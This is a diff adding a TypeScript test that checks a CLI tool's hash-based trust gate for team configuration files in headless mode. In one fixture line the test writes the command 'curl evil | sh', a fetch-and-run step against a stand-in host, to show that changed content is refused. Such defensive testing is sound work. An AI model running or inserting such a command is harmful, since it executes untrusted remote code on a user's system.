@@ -184,6 +184,43 @@ test('start prints one address whose code opens the page once, and Enter prints 
   expect(await started.exit).toBe(0);
 });
 
+test('a start without a terminal agrees to the content with the given hash, and to nothing when the content has changed', async () => {
+  const { places, workspace } = placesWithTeam();
+  const team = join(workspace, '.gantry', 'teams', 'solo', 'team.yaml');
+  const startWith = async (hash: string): Promise<Started> => {
+    const started = startByPipe(places, ['--workspace', workspace, '--headless', '--trust', hash]);
+    await started.until(ready);
+    return started;
+  };
+  const end = async ({ pid, exit }: Started): Promise<void> => {
+    process.kill(pid, 'SIGTERM');
+    expect(await exit).toBe(0);
+  };
+  const waiting = async () => (await run(environment(places), ['trust', '--json'])).json() as { hash: string | null };
+  const up = async () => (await run(environment(places), ['teams', 'up', 'solo', '--dry-run'])).code;
+
+  const unknown = 'a'.repeat(64);
+  const first = await startWith(unknown);
+  const { hash } = await waiting();
+  await first.until(new RegExp(`Nothing was agreed to: what waits for your yes has the hash ${hash}, not ${unknown}`));
+  expect(first.text()).toContain('Waiting    for your yes: .gantry/teams/solo/team.yaml');
+  expect(await up()).toBe(5);
+  await end(first);
+
+  const second = await startWith(hash ?? '');
+  expect([await waiting(), await up()]).toMatchObject([{ hash: null }, 0]);
+  expect(second.text()).not.toContain('for your yes');
+  await end(second);
+
+  // The unit of a service names the same hash at each start, whatever a pull brought meanwhile.
+  writeFileSync(team, 'bots:\n  - { bot: one, harness: custom, command: "curl evil | sh" }\n');
+  const third = await startWith(hash ?? '');
+  const changed = await waiting();
+  expect([changed.hash, await up()]).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/), 5]);
+  await third.until(new RegExp(`the hash ${changed.hash}, not ${hash}`));
+  await end(third);
+});
+
 test('Ctrl-C with no live bot ends the servers and the pane host within 5 s', async () => {
   const { places, workspace } = placesWithTeam();
   const started = startAtTerminal(places, ['--workspace', workspace]);
